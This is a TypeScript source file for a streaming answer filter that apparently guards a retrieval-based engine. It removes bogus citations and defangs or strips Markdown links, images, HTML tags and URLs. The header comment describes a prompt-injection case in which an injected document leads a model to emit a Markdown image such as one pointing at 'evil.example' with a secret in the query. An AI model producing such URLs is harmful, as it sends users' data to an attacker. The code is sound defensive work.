import type { Config } from '../config';
import type { ContextPassage } from '../domain';

/**
 * What the engine does to links, images and URLs in answers (ANSWER_LINKS). A model that
 * read an injected document can be told to write `![](https://evil.example/?q=<secret>)`:
 * a client rendering Markdown fetches that image without anyone clicking. So by default:
 * - `strip`: images and raw HTML tags go (an image leaves its alt text), a link becomes its
 *   text followed by its URL defanged (`https[://]evil[.]example`), a bare URL is defanged;
 * - `passages`: the same, except that a link or URL spelled out in one of the passages the
 *   model was given stays as it is (it carries nothing the model composed); images still go;
 * - `keep`: answers as the model wrote them.
 */
export type AnswerLinks = Config['ANSWER_LINKS'];

/**
 * Filters an answer as it streams: drops citations of passages that were not given (a `[7]`
 * with 5 passages points at nothing the client can show, and may be a document's fake
 * numbering the model copied) and neutralises links per `links`. Text is held back only while
 * it may still turn into something rewritten (a `[…](…)`, a `<…>` tag, a URL, a `[n]`).
 */
export async function* guardAnswer(pieces: AsyncIterable<string>, passages: ContextPassage[], links: AnswerLinks): AsyncIterable<string> {
  const guard = new AnswerGuard(passages, links);
  for await (const piece of pieces) {
    const out = guard.push(piece);
    if (out) yield out;
  }
  const rest = guard.end();
  if (rest) yield rest;
}

/** The filter on a whole answer (what the stream yields, joined). */
export function guardText(answer: string, passages: ContextPassage[], links: AnswerLinks): string {
  const guard = new AnswerGuard(passages, links);
  return guard.push(answer) + guard.end();
}

/** Raw text already let through that lookbehinds (start of line, letter before a URL) still read. */
const CONTEXT_CHARS = 200;

export class AnswerGuard {
  readonly #count: number;
  readonly #links: AnswerLinks;
  readonly #allowed: ReadonlySet<string>;
  #pending = '';
  #context = '';
  /** The last character let through, as filtered. */
  #last = '';

  constructor(passages: ContextPassage[], links: AnswerLinks) {
    this.#count = passages.length;
    this.#links = links;
    this.#allowed = links === 'passages' ? new Set(passages.flatMap((p) => [...p.text.matchAll(BARE_URL)].map((m) => trimUrl(m[0])))) : new Set();
  }

  /** The part of the text so far that can no longer change, filtered. */
  push(piece: string): string {
    this.#pending += piece;
    if (this.#links === 'keep') return this.#release(HOLD_CITATION.exec(this.#pending)?.index ?? this.#pending.length);
    let cut = HOLD_LINKS.exec(this.#pending)?.index ?? this.#pending.length;
    // What is held may sit inside a link or tag that began earlier (a URL as a link's destination,
    // a `[` in a tag's attribute): hold the whole link or tag, so the rules see it whole.
    for (let open = this.#openAt(cut); open !== undefined; open = this.#openAt(cut)) cut = open;
    // Only a tag longer than the hold's cap is let through unclosed: escape its `<`, so that
    // a `>` arriving later closes nothing.
    const unclosed = UNCLOSED_TAG.test(this.#pending.slice(0, cut));
    const out = this.#release(cut);
    const lt = unclosed ? out.lastIndexOf('<') : -1;
    return lt < 0 ? out : `${out.slice(0, lt)}&lt;${out.slice(lt + 1)}`;
  }

  #openAt(cut: number): number | undefined {
    const before = this.#pending.slice(0, cut);
    return (OPEN_LINK.exec(before) ?? OPEN_TAG.exec(before))?.index;
  }

  /** The rest, at the end of the answer. */
  end(): string {
    return this.#release(this.#pending.length);
  }

  #release(cut: number): string {
    if (cut === 0) return '';
    const raw = this.#pending.slice(0, cut);
    this.#pending = this.#pending.slice(cut);
    let out = this.#filter(raw);
    this.#context = (this.#context + raw).slice(-CONTEXT_CHARS);
    // The rules read raw text, but what they wrote may end in `]` (`www[.]`) or `!`: a `(` or `[`
    // starting the next piece would make `](` or `![` across the seam.
    const seam = this.#last + out.slice(0, 1);
    if (this.#links !== 'keep' && (seam === '](' || seam === '![')) out = ` ${out}`;
    if (out) this.#last = out.at(-1) as string;
    return out;
  }

  /** Runs each rule over the text, the context before it visible to lookbehinds only. */
  #filter(text: string): string {
    const from = this.#context.length;
    let s = this.#context + text;
    const rule = (pattern: RegExp, rewrite: (match: string, ...groups: (string | undefined)[]) => string) => {
      s = replaceFrom(s, from, pattern, rewrite);
    };
    rule(CITATION, (match, n) => (Number(n) >= 1 && Number(n) <= this.#count ? match : ''));
    if (this.#links !== 'keep') {
      const allowed = (url: string) => this.#allowed.has(url) || this.#allowed.has(trimUrl(url));
      rule(AUTOLINK, (match, url = '') => (allowed(url) ? match : defang(url)));
      for (let before = ''; before !== s; ) {
        // Until nothing changes: removing `<img x>` from `<<img x>img y>` makes a new tag.
        before = s;
        rule(TAG, (match, name = '', rest = '') => htmlTag(match, name, rest));
      }
      rule(IMAGE, (_match, alt = '') => alt);
      rule(LINK, (match, text = '', dest = '') => link(match, text, dest.replace(/^<|>$/g, ''), allowed));
      rule(DEFINITION, (_match, label = '') => `[${label}] :`);
      rule(BARE_URL, (match) => {
        const url = trimUrl(match).length < 5 ? match.slice(0, 4) : trimUrl(match); // `www.` stays whole
        return allowed(url) ? match : defang(url) + match.slice(url.length);
      });
      // Whatever the rules above did not read exactly as a renderer would (nested brackets, odd
      // titles, reference images, `[.](` from a defanged URL): `![` and `](` are what images and
      // links need, so split them, unless the `](` opens an allowed link.
      rule(/!\[/g, () => '! [');
      rule(OPENING, (match, dest = '') => (allowed(dest.replace(/^<|>$/g, '')) ? match : `] (${dest}`));
    }
    return s.slice(from);
  }
}

/** `s` with matches of the global `pattern` that start at `from` or later rewritten; what is before `from` only informs lookbehinds. */
function replaceFrom(s: string, from: number, pattern: RegExp, rewrite: (match: string, ...groups: (string | undefined)[]) => string): string {
  let out = s.slice(0, from);
  let last = from;
  pattern.lastIndex = from;
  for (let m = pattern.exec(s); m; m = pattern.exec(s)) {
    out += s.slice(last, m.index) + rewrite(m[0], ...m.slice(1));
    last = m.index + m[0].length;
  }
  return out + s.slice(last);
}

/** `[n]`: a citation unless a letter or digit comes before (`items[7]` in code is not one); one space before goes with it. */
const CITATION = /(?:[ \t](?=\[)|(?<![\p{L}\p{N}_]))\[(\d{1,9})\]/gu;

const TEXT = String.raw`[^\[\]\n]{0,500}`;
/**
 * Link text may hold one level of brackets: `[see [1]](…)`, or an image, `[![logo](…)](…)`.
 * Each character can be read one way only (`!` and `(` as text), so a failing match cannot
 * backtrack exponentially on an answer full of brackets.
 */
const NESTED = String.raw`(?:[^\[\]\n]|\[[^\[\]\n]{0,500}\]){0,500}`;
const DEST = String.raw`<[^<>\n]*>|[^\s()<>]*(?:\([^\s()<>]*\)[^\s()<>]*)*`;
const TITLE = String.raw`(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?`;
/** Markdown inline images and links, as CommonMark reads them (one level of parentheses in a URL). */
const IMAGE = new RegExp(String.raw`!\[(${TEXT})\]\([ \t]*(?:${DEST})${TITLE}[ \t]*\)`, 'g');
const LINK = new RegExp(String.raw`\[(${NESTED})\]\([ \t]*(${DEST})${TITLE}[ \t]*\)`, 'g');
/** A link reference definition (`[ref]: https://…`, at the start of a line, maybe in a quote or list): it feeds `![x][ref]`. */
const DEFINITION = /(?<=^[ \t]*(?:(?:>|[-*+]|\d{1,9}[.)])[ \t]*)*)\[([^\[\]\n]{1,999})\]:/gm;
/** `<https://…>` and `<someone@example.com>` autolinks. */
const AUTOLINK = /<([a-z][a-z0-9+.-]{1,31}:[^\s<>]*|[^\s<>@]+@[^\s<>@]+)>/gi;
/** Raw HTML tags; only those with attributes (src, href, style…) or that hold CSS or script can fetch. */
const TAG = /<\/?([a-z][a-z0-9-]*)(?![a-z0-9-])([^<>]*)>/gi;
/** URLs as renderers autolink them (GFM, linkify): http(s)/ftp(s) or www., not right after a letter or digit. */
const BARE_URL = /(?<![\p{L}\p{N}])(?:(?:https?|ftps?):\/\/|www\.)[^\s<>\[\]]*/giu;
/** `](` with the destination after it (which may be an allowed link's). */
const OPENING = /\]\(([^\s()[\]]*)/g;

/**
 * Text at the end of what has arrived that may still become something a rule rewrites: a link
 * or image under way, a URL (until it ends) or the start of one, a tag, a citation with the space
 * before it, a lone `!` or `]`. Bounded, so that stray brackets cannot hold back a whole answer.
 */
const HOLD_LINKS = new RegExp(
  [
    String.raw`[ \t]?!?\[${NESTED}(?:!?\[[^\[\]\n]{0,500}|\](?:\([^)\n]{0,2048})?)?$`,
    String.raw`(?<![\p{L}\p{N}])(?:(?:https?|ftps?):\/\/|www\.)[^\s<>\[\]]{0,2048}$`,
    String.raw`(?<![\p{L}\p{N}])(?:h(?:t(?:t(?:ps?(?::\/?)?)?)?)?|f(?:t(?:ps?(?::\/?)?)?)?|w{1,3})$`,
    String.raw`<(?:[^\s<>][^<>]{0,1024})?$`,
    String.raw`[ \t!\]]$`,
  ].join('|'),
  'iu',
);
const UNCLOSED_TAG = /<[^\s<>][^<>]*$/;
const OPEN_TAG = /<[^\s<>][^<>]{0,1024}$/;
const OPEN_LINK = new RegExp(String.raw`[ \t]?!?\[${NESTED}\]\([^)\n]{0,2048}$`);
const HOLD_CITATION = /(?:[ \t]?\[\d{0,9}|[ \t])$/;

/** Sentence punctuation after a URL is not part of it (as GFM's autolinks also read it). */
function trimUrl(url: string): string {
  return url.replace(/[.,;:!?'")*_~]+$/, '');
}

/** Readable, not fetchable and not autolinked: `https[://]evil[.]example/x`. */
function defang(url: string): string {
  return url.replaceAll('://', '[://]').replaceAll('.', '[.]');
}

function htmlTag(match: string, name: string, rest: string): string {
  const bare = /^\s*\/?\s*$/.test(rest) && !/^(?:style|script)$/i.test(name);
  if (bare) return match; // <b>, </p>, <br/>, and generics like List<String> in code
  if (name.toLowerCase() !== 'img') return '';
  const alt = /\balt\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))/i.exec(rest);
  return alt ? (alt[1] ?? alt[2] ?? alt[3] ?? '') : '';
}

function link(match: string, text: string, url: string, allowed: (url: string) => boolean): string {
  if (allowed(url)) return match;
  const label = /^\d+$/.test(text) ? `[${text}]` : text; // [1](…) was a citation
  if (!url) return label;
  const shown = defang(url);
  return !text || defang(text) === shown ? shown : `${label} (${shown})`;
}
